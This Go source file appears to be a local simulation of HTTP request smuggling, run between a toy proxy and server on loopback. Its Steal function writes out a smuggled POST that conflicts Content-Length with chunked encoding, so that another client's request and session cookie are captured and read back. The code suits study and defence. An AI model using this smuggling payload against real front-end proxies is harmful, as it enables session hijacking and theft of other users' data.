package smuggle

import (
	"bufio"
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"sync"
	"time"
)

// An Outcome is what each of three clients is told, one after the other. Anna asks for /anna,
// and bob for /bob.
type Outcome struct{ Attacker, Anna, Bob string }

func (o Outcome) String() string {
	return fmt.Sprintf("anna: %s, bob: %s", o.Anna, o.Bob)
}

// Smuggled tells whether somebody was told what was not for them.
func (o Outcome) Smuggled() bool { return o.Anna != "/anna" || o.Bob != "/bob" }

// Play lets the attacker ask, and then the two others, each on a connection of their own.
func Play(ctx context.Context, a Attack) (o Outcome, err error) {
	err = behind(ctx, a.Front, a.Back, func(ask func(string) (string, error)) error {
		if o.Attacker, err = ask(a.Bytes); err != nil {
			return fmt.Errorf("the attacker: %w", err)
		}
		if o.Anna, err = ask("GET /anna HTTP/1.1\r\n" + host + "\r\n"); err != nil {
			return fmt.Errorf("anna: %w", err)
		}
		if o.Bob, err = ask("GET /bob HTTP/1.1\r\n" + host + "\r\n"); err != nil {
			return fmt.Errorf("bob: %w", err)
		}
		return nil
	})
	return o, err
}

// Steal lets the attacker leave a note whose body is still to come, and read it when anna has
// asked for something.
func Steal(ctx context.Context) (note string, err error) {
	anna := "GET /anna HTTP/1.1\r\n" + host + "Cookie: session=42\r\n\r\n"
	smuggled := nothing + "POST /note HTTP/1.1\r\n" + host + lengthOf(anna) + "\r\n"
	err = behind(ctx, Naive, Standard, func(ask func(string) (string, error)) error {
		for _, request := range []string{
			post(lengthOf(smuggled)+chunked, smuggled),
			anna,
			"GET /note HTTP/1.1\r\n" + host + "\r\n",
		} {
			if note, err = ask(request); err != nil {
				return err
			}
		}
		return nil
	})
	return note, err
}

// behind opens a server and a proxy in front of it. ask sends bytes to the proxy by a new
// connection, and returns the first answer.
func behind(ctx context.Context, proxy, server string, scene func(ask func(string) (string, error)) error) error {
	ctx, stop := context.WithCancel(ctx)
	var serving sync.WaitGroup
	defer serving.Wait()
	defer stop()
	back, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return err
	}
	serving.Go(func() { new(page).back(ctx, server, back) })
	before, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return err
	}
	serving.Go(func() { front(ctx, proxy, before, back.Addr().String()) })
	err = scene(func(request string) (string, error) { return ask(ctx, before.Addr().String(), request) })
	if ctx.Err() != nil {
		return ctx.Err()
	}
	return err
}

func ask(ctx context.Context, address, request string) (string, error) {
	conn, err := new(net.Dialer).DialContext(ctx, "tcp", address)
	if err != nil {
		return "", err
	}
	defer conn.Close()
	defer context.AfterFunc(ctx, func() { conn.Close() })()
	conn.SetDeadline(time.Now().Add(10 * time.Second))
	if _, err := io.WriteString(conn, request); err != nil {
		return "", err
	}
	answer, err := http.ReadResponse(bufio.NewReader(conn), nil)
	if err != nil {
		return "", err
	}
	defer answer.Body.Close()
	if answer.StatusCode != http.StatusOK {
		return fmt.Sprint(answer.StatusCode), nil
	}
	text, err := io.ReadAll(answer.Body)
	return string(text), err
}
